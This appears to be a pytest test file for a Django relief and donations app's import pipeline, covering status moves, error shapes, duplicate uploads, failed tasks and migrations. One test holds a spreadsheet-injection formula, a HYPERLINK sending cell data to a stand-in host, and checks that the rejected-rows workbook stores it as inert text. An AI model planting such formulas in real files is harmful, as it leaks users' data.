# ruff: noqa: F811  (fixtures are imported from tests/test_relief_fixtures.py by name)
"""The one import frame (lib.imports): the status pipeline and its history, the one error
shape, the same file uploaded again answered by the earlier import, a failing task leaving
its import failed with the reason, the one rejected-rows workbook (formula-safe), and the
data migrations that moved the three import records onto it."""

import io
import zipfile
from types import SimpleNamespace

import pytest
from django.db import transaction
from django.urls import reverse
from openpyxl import load_workbook

from nhandao.beneficiaries import importers as registry
from nhandao.beneficiaries import tasks as registry_tasks
from nhandao.beneficiaries.models import ImportBatch, Person
from nhandao.donations import actions as donations
from nhandao.donations import importers as statement_importers
from nhandao.donations.models import Statement, StatementLine
from nhandao.lib import tasks as lib_tasks
from nhandao.lib.errors import Refused
from nhandao.lib.imports import (
    IMPORTS,
    ImportStatus,
    error_text,
    rejected_rows_workbook,
    row_error,
)
from nhandao.lib.imports_migration import one_error, to_frame
from nhandao.relief import importers as relief_importers
from nhandao.relief.models import DistributionLine, LineImport
from tests.saoke import FIXTURES, VCB, create_vcb, create_yagi
from tests.test_relief_fixtures import (  # noqa: F401  (fixtures)
    allocate,
    ba_dinh_homes,
    funded,
    hanoi_round,
    household,
    unit,
    xlsx,
    yagi,
)

S = ImportStatus
SHAPE = {"row", "column", "value", "reason"}
REGISTRY_HEADER = "Mã nguồn,Họ và tên,Giới tính,Ngày sinh,Mã xã/phường\n"


@pytest.fixture
def rnd(cast, funded):
    allocate(cast, funded, cast.hanoi, 5_000_000)
    return hanoi_round(cast, funded)


@pytest.fixture
def vcb(cast):
    return create_vcb(cast, create_yagi(cast))


def registry_batch(cast, text: str, name="ds.csv") -> ImportBatch:
    return registry.start(cast.ba_dinh_officer, cast.ba_dinh, name, text.encode())


# ---- the pipeline ---------------------------------------------------------------------------


def test_the_pipeline_allows_the_table_and_refuses_the_rest():
    assert IMPORTS.allows(S.UPLOADED, S.PREVIEWED) and IMPORTS.allows(S.PREVIEWED, S.QUEUED)
    assert IMPORTS.allows(S.QUEUED, S.COMMITTING) and IMPORTS.allows(S.COMMITTING, S.DONE)
    assert IMPORTS.allows(S.COMMITTING, S.FAILED) and IMPORTS.allows(S.PREVIEWED, S.CANCELLED)
    for source, target in [
        (S.DONE, S.COMMITTING),  # a finished import never runs again
        (S.FAILED, S.PREVIEWED),
        (S.CANCELLED, S.QUEUED),
        (S.QUEUED, S.DONE),  # nothing is done without being committed
        (S.UPLOADED, S.DONE),
        (S.QUEUED, S.CANCELLED),  # a queued import is the worker's
    ]:
        assert not IMPORTS.allows(source, target)
    assert IMPORTS.label(S.PREVIEWED) == "Đã kiểm tra, chờ xác nhận"
    assert IMPORTS.change_text(S.COMMITTING, S.FAILED) == "Đang nhập → Không nhập được"


def test_a_move_writes_its_history_row_and_a_refused_move_changes_nothing(cast, rnd):
    rows = [["Mã hộ", "Số tiền"], [ba_dinh_homes(cast)[0].pk, 100_000]]
    batch, new = relief_importers.start(cast.hn_officer, rnd, "a.xlsx", xlsx(rows))
    assert new and batch.status == S.PREVIEWED
    with pytest.raises(Refused, match="từ “Đã kiểm tra, chờ xác nhận” sang “Đã nhập”"):
        batch.move(S.DONE, actor=cast.hn_officer)
    batch.refresh_from_db()
    assert batch.status == S.PREVIEWED
    relief_importers.discard(cast.hn_manager, batch)
    batch.refresh_from_db()
    history = [(h.from_status, h.to_status, h.actor) for h in batch.history.all()]
    assert history == [
        ("", S.UPLOADED, cast.hn_officer),
        (S.UPLOADED, S.PREVIEWED, None),  # checked by the importer
        (S.PREVIEWED, S.CANCELLED, cast.hn_manager),
    ]
    assert batch.finished_at is not None
    with pytest.raises(Refused):
        relief_importers.commit(cast.hn_officer, batch)


def test_a_claim_takes_a_record_once(cast):
    batch = registry_batch(cast, REGISTRY_HEADER + "A1,Ngô Văn Long,Nam,1981,4\n")
    assert batch.status == S.UPLOADED
    assert ImportBatch.claim(batch.pk, S.UPLOADED, S.PREVIEWED)
    assert not ImportBatch.claim(batch.pk, S.UPLOADED, S.PREVIEWED)  # the second process
    with pytest.raises(Refused):
        ImportBatch.claim(batch.pk, S.PREVIEWED, S.DONE)  # not a move of the table
    assert [h.to_status for h in batch.history.all()] == [S.UPLOADED, S.PREVIEWED]


def test_the_page_offers_only_the_moves_of_the_pipeline(cast, rnd, login):
    rows = [["Mã hộ", "Số tiền"], [ba_dinh_homes(cast)[0].pk, 100_000]]
    batch, _ = relief_importers.start(cast.hn_officer, rnd, "a.xlsx", xlsx(rows))
    assert [m.target for m in batch.allowed_moves()] == [S.COMMITTING, S.CANCELLED]
    client = login(cast.hn_officer)
    html = client.get(reverse("relief_line_import", args=[batch.pk])).content.decode()
    assert 'id="commit-import"' in html and 'value="cancelled"' in html
    body = client.get(f"/api/relief/imports/{batch.pk}").json()
    assert (body["status_label"], body["moves"]) == (
        "Đã kiểm tra, chờ xác nhận",
        ["committing", "cancelled"],
    )
    relief_importers.discard(cast.hn_officer, batch)
    batch.refresh_from_db()
    assert batch.allowed_moves() == []
    html = client.get(reverse("relief_line_import", args=[batch.pk])).content.decode()
    assert 'id="commit-import"' not in html and "Đã bỏ, không nhập" in html
    assert client.get(f"/api/relief/imports/{batch.pk}").json()["moves"] == []


# ---- one error shape ------------------------------------------------------------------------


def test_every_importer_stores_its_errors_in_the_one_shape(cast, rnd, vcb):
    homes = ba_dinh_homes(cast)
    persons = Person.objects.count()
    relief_rows = [["Mã hộ", "Số tiền"], [homes[0].pk, "một triệu"]]
    relief, _ = relief_importers.start(cast.hn_officer, rnd, "r.xlsx", xlsx(relief_rows))
    batch = registry.preview(registry_batch(cast, REGISTRY_HEADER + "B1,Ngô Lan,Nữ,1980,999\n"))
    bad_line = "9,2024-09-05,9999.1,,abc,ung ho\n"
    data = (FIXTURES / VCB).read_bytes() + bad_line.encode()
    statement = donations.import_statement(cast.root, vcb, filename=VCB, data=data)
    for record in (relief, batch, statement):
        assert record.status == S.FAILED and record.errors and record.rows_rejected >= 1
        assert all(set(e) == SHAPE for e in record.errors), record.errors[:2]
    assert relief.errors[0]["value"] == "một triệu"
    assert (
        batch.errors[0] == row_error(2, "Mã xã/phường", "999", batch.errors[0]["reason"])
        and "999" in batch.errors[0]["reason"]
    )
    assert [(e["column"], e["value"]) for e in statement.errors] == [("credit_vnd", "abc")]
    assert not DistributionLine.objects.exists() and Person.objects.count() == persons
    assert not StatementLine.objects.exists()


def test_an_error_in_words_names_row_and_column():
    assert error_text(row_error(12, "Số tiền", "1.5OO", "không phải số tiền")) == (
        "Dòng 12, cột “Số tiền”: không phải số tiền"
    )
    assert error_text(row_error(0, "", "", "Tệp trống.")) == "Tệp trống."


# ---- the same file again --------------------------------------------------------------------


def test_the_same_list_again_is_answered_by_the_earlier_import(cast, tasks):
    text = REGISTRY_HEADER + "C1,Ngô Văn Long,Nam,1981,4\nC2,Ngô Thị Lan,Nữ,1979,8\n"
    first = registry_batch(cast, text)
    registry.commit(cast.ba_dinh_officer, registry.preview(first))
    assert Person.objects.count() == 2
    again = registry_batch(cast, text, name="ten-khac.csv")
    assert again.repeated and again.pk == first.pk and again.status == S.DONE
    assert ImportBatch.objects.count() == 1 and Person.objects.count() == 2
    assert "đã được nhập" in again.repeat_message()
    # another organisation is another target: its own import
    other = registry.start(cast.ngoc_ha_officer, cast.ngoc_ha, "ds.csv", text.encode())
    assert not other.repeated and other.pk != first.pk


def test_the_same_distribution_list_again_adds_nothing(cast, rnd):
    homes = ba_dinh_homes(cast)
    data = xlsx([["Mã hộ", "Số tiền"], [homes[0].pk, 100_000], [homes[1].pk, 200_000]])
    first, _ = relief_importers.start(cast.hn_officer, rnd, "a.xlsx", data)
    relief_importers.commit(cast.hn_officer, first)
    again, new = relief_importers.start(cast.hn_officer, rnd, "b.xlsx", data)
    assert not new and again.pk == first.pk and again.status == S.DONE
    assert LineImport.objects.count() == 1 and DistributionLine.objects.count() == 2


def test_the_same_statement_again_is_answered_and_writes_no_line(cast, vcb):
    data = (FIXTURES / VCB).read_bytes()
    first = donations.import_statement(cast.root, vcb, filename=VCB, data=data)
    lines = StatementLine.objects.count()
    again = donations.import_statement(cast.root, vcb, filename="khac.csv", data=data)
    assert again.repeated and again.pk == first.pk
    assert Statement.objects.count() == 1 and StatementLine.objects.count() == lines == 360
    assert again.repeat_summary()["added"] == 0


# ---- a task that fails ----------------------------------------------------------------------


def test_a_check_that_raises_in_the_worker_leaves_its_list_failed_with_the_reason(
    cast, tasks, monkeypatch
):
    def broken(*args, **kwargs):
        raise RuntimeError("disk gone")

    batch = registry_batch(cast, REGISTRY_HEADER + "D1,Ngô Văn Long,Nam,1981,4\n")
    monkeypatch.setattr(registry, "read_table", broken)
    with transaction.atomic():
        lib_tasks.enqueue_on_commit(registry_tasks.preview_import_task, batch.pk)
    tasks.run()
    batch.refresh_from_db()
    assert batch.status == S.FAILED
    assert batch.errors == [row_error(0, "", "", lib_tasks.SYSTEM_ERROR_REASON)]
    assert [h.to_status for h in batch.history.all()] == [S.UPLOADED, S.FAILED]


def test_a_statement_whose_import_raises_ends_failed_with_the_reason(cast, vcb, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("bug")

    monkeypatch.setattr(statement_importers, "check", broken)
    data = (FIXTURES / VCB).read_bytes()
    statement = donations.import_statement(cast.root, vcb, filename=VCB, data=data)
    assert statement.status == S.FAILED and statement.finished_at is not None
    assert statement.errors[0]["reason"] == lib_tasks.SYSTEM_ERROR_REASON
    assert not StatementLine.objects.exists()
    # a failed import does not answer the same file: it can be imported again
    monkeypatch.undo()
    again = donations.import_statement(cast.root, vcb, filename=VCB, data=data)
    assert not again.repeated and again.status == S.DONE


# ---- the rejected-rows workbook -------------------------------------------------------------


def test_the_rejected_rows_workbook_holds_row_column_value_reason_and_runs_no_formula():
    formula = '=HYPERLINK("http://x.invalid/?"&A1,"bấm")'
    errors = [
        row_error(0, "", "", "Thiếu cột “Số tiền”."),
        row_error(3, "Nội dung", formula, "Có ký tự điều khiển."),
    ]
    data = rejected_rows_workbook(errors, ["Ngày", "Nội dung"], {3: ["05/09/2024", formula]})
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Dòng", "Cột", "Giá trị", "Lý do", "Ngày", "Nội dung")
    assert rows[1][:4] == (None, None, None, "Thiếu cột “Số tiền”.")
    assert rows[2] == (3, "Nội dung", formula, "Có ký tự điều khiển.", "05/09/2024", formula)
    assert all(cell.data_type == "s" for cell in sheet[3][1:])  # text, never a formula
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


# ---- the migrations keep the data -----------------------------------------------------------


def test_old_error_shapes_become_the_one_shape():
    assert one_error({"row": 4, "column": "Mã hộ", "message": "không có hộ"}) == row_error(
        4, "Mã hộ", "", "không có hộ"
    )
    old_statement_error = {
        "row": 7,
        "column": "credit_vnd",
        "reason": "Số tiền không đọc được",
        "values": {"doc_no": "9.1", "credit_vnd": "1.5OO"},
    }
    assert one_error(old_statement_error) == row_error(
        7, "credit_vnd", "1.5OO", "Số tiền không đọc được"
    )


def test_the_data_migrations_map_old_statuses_and_errors(cast, rnd, vcb):
    """The migrations' own functions, run on records as the old code left them."""
    import importlib

    relief_0006 = importlib.import_module(
        "nhandao.relief.migrations.0006_line_import_on_import_frame"
    )
    registry_0005 = importlib.import_module(
        "nhandao.beneficiaries.migrations.0005_import_batch_on_import_frame"
    )
    donations_0006 = importlib.import_module(
        "nhandao.donations.migrations.0008_statement_on_import_frame"
    )
    home = ba_dinh_homes(cast)[0].pk
    lists = [
        relief_importers.start(cast.hn_officer, rnd, "a.xlsx", xlsx([["Mã hộ", "Số tiền"], row]))[0]
        for row in ([home, 100_000], [home, 200_000])  # two files
    ]
    old = {"row": 2, "column": "Số tiền", "message": "sai"}
    LineImport.objects.filter(pk=lists[0].pk).update(status="invalid", errors=[old], warnings=[old])
    LineImport.objects.filter(pk=lists[1].pk).update(status="discarded")
    checking = registry_batch(cast, REGISTRY_HEADER + "E1,Ngô Văn Long,Nam,1981,4\n", "1.csv")
    review = registry_batch(cast, REGISTRY_HEADER + "E2,Ngô Văn Long,Nam,1981,4\n", "2.csv")
    ImportBatch.objects.filter(pk=checking.pk).update(status="preview", rows_read=0)
    ImportBatch.objects.filter(pk=review.pk).update(status="review", rows_read=1)
    statement = donations.create_statement(
        cast.root, vcb, filename=VCB, data=(FIXTURES / VCB).read_bytes()
    )
    statement_error = {"row": 3, "column": "c", "reason": "r", "values": {"c": "v"}}
    Statement.objects.filter(pk=statement.pk).update(status="rejected", errors=[statement_error])

    relief_0006.forward(_apps(), None)
    registry_0005.forward(_apps(), None)
    donations_0006.forward(_apps(), None)

    refused, dropped = (LineImport.objects.get(pk=x.pk) for x in lists)
    assert (refused.status, dropped.status) == (S.FAILED, S.CANCELLED)
    assert refused.errors == refused.warnings == [row_error(2, "Số tiền", "", "sai")]
    assert refused.rows_rejected == 1
    assert ImportBatch.objects.get(pk=checking.pk).status == S.UPLOADED
    assert ImportBatch.objects.get(pk=review.pk).status == S.PREVIEWED
    statement.refresh_from_db()
    assert statement.status == S.FAILED and statement.errors == [row_error(3, "c", "v", "r")]


def _apps():
    from django.apps import apps

    return apps


def test_files_kept_in_the_database_move_to_the_storage(settings):
    """to_frame's move of the old `content` column (a record as the historical model has
    it: its bytes in `content`, no file yet)."""
    from django.core.files.storage import default_storage

    saved = []
    record = SimpleNamespace(
        status="preview",
        errors=[],
        warnings=[],
        rows_read=1,
        content=memoryview(b"Ho va ten\nAn\n"),
        file=None,
        file_name="danh sách.csv",
        uploaded_at=None,
        save=lambda update_fields: saved.append(update_fields),
    )
    model = SimpleNamespace(
        objects=SimpleNamespace(all=lambda: SimpleNamespace(iterator=lambda chunk_size: [record]))
    )
    to_frame(model, {"preview": "previewed"}, warnings=True, content=True, upload_dir="x/lists")
    assert record.status == "previewed" and saved == [
        ["status", "errors", "rows_rejected", "warnings", "file"]
    ]
    assert record.file.startswith("x/lists/")
    with default_storage.open(record.file, "rb") as handle:
        assert handle.read() == b"Ho va ten\nAn\n"


def test_the_registry_migration_keeps_old_lists_their_files_and_errors(
    reload_map_afterwards, transactional_db
):
    """beneficiaries/0005 run by Django's migration executor on lists the old schema held:
    the bytes column becomes a stored file, statuses and errors the frame's."""
    from django.db import connection
    from django.db.migrations.executor import MigrationExecutor

    before = [("beneficiaries", "0004_refold_d_letters")]
    executor = MigrationExecutor(connection)
    executor.migrate(before)
    old = executor.loader.project_state(before).apps.get_model("beneficiaries", "ImportBatch")
    message = {"row": 2, "column": "Họ và tên", "message": "Họ và tên không được để trống."}
    fields = {"checksum": "0" * 64, "errors": [], "warnings": []}
    refused = old.objects.create(
        file_name="loi.csv",
        content=b"Ho va ten,Ma xa\n,4\n",
        status="invalid",
        rows=1,
        **fields | {"errors": [message], "warnings": [message]},
    )
    checking = old.objects.create(file_name="a.csv", content=b"x", status="preview", **fields)
    review = old.objects.create(
        file_name="b.csv", content=b"y", status="review", rows=1200, new_rows=1200, **fields
    )

    executor = MigrationExecutor(connection)
    executor.migrate(executor.loader.graph.leaf_nodes())

    moved = ImportBatch.objects.get(pk=refused.pk)
    assert (moved.status, moved.rows_read, moved.rows_rejected) == (S.FAILED, 1, 1)
    expected = row_error(2, "Họ và tên", "", "Họ và tên không được để trống.")
    assert moved.errors == moved.warnings == [expected]
    assert moved.read_file() == b"Ho va ten,Ma xa\n,4\n"
    assert moved.file.name.startswith("beneficiaries/lists/")
    assert ImportBatch.objects.get(pk=checking.pk).status == S.UPLOADED
    assert ImportBatch.objects.get(pk=review.pk).status == S.PREVIEWED
    assert ImportBatch.objects.get(pk=review.pk).rows_accepted == 1200


def test_the_statement_migration_renames_keeps_figures_and_maps_statuses(
    reload_map_afterwards, transactional_db
):
    """donations/0008 run by Django's migration executor on statements in the old schema
    (the organisation and account made without actions: an audit event, append-only, would
    keep SQLite from emptying the tables after a transactional test)."""
    from django.db import connection
    from django.db.migrations.executor import MigrationExecutor

    from nhandao.donations.models import BankAccount
    from nhandao.orgs.models import Organisation, OrgKind, OrgLevel

    org = Organisation.objects.create(
        code="T-MIG", name="Tổ chức thử", kind=OrgKind.RED_CROSS, level=OrgLevel.CENTRAL
    )
    account = BankAccount.objects.create(
        bank="VCB", number="0011001932418", holder="X", organisation=org
    )
    before = [("donations", "0007_donation_totals")]
    executor = MigrationExecutor(connection)
    executor.migrate(before)
    old = executor.loader.project_state(before).apps.get_model("donations", "Statement")
    error = {"row": 3, "column": "credit_vnd", "reason": "Số tiền không đọc được", "values": {
        "doc_no": "1.2", "credit_vnd": "1.5OO"}}  # fmt: skip
    common = {"bank_account_id": account.pk, "checksum": "1" * 64}
    refused = old.objects.create(
        filename="a.csv", status="rejected", lines=5, rejected=1, errors=[error], **common
    )
    waiting = old.objects.create(filename="b.csv", status="pending", **common)
    done = old.objects.create(
        filename="c.csv", status="done", lines=360, added=300, already_present=60, **common
    )

    executor = MigrationExecutor(connection)
    executor.migrate(executor.loader.graph.leaf_nodes())

    moved = Statement.objects.get(pk=refused.pk)
    assert (moved.file_name, moved.status, moved.rows_read, moved.rows_rejected) == (
        "a.csv",
        S.FAILED,
        5,
        1,
    )
    assert moved.errors == [row_error(3, "credit_vnd", "1.5OO", "Số tiền không đọc được")]
    assert Statement.objects.get(pk=waiting.pk).awaiting_confirmation
    assert Statement.objects.get(pk=done.pk).summary() | {"credits_total": None} == {
        "lines": 360,
        "credit_lines": 0,
        "credits_total": None,
        "debits_total": 0,
        "added": 300,
        "already_present": 60,
        "rejected": 0,
    }


def test_an_error_keeps_no_control_character_anywhere():
    """A header read from a broken file ("khong phai bang\\x00\\x01") names the column: a NUL
    cannot be stored in PostgreSQL's JSON, so the import failed with a system error instead
    of its refusal."""
    from nhandao.lib.imports import row_error

    error = row_error(1, "khong phai bang\x00\x01", "x\x00", "ô có ký tự \x00")
    assert not any(ord(ch) < 32 for field in ("column", "value", "reason") for ch in error[field])
    assert error["column"] == "khong phai bangU+0000U+0001"
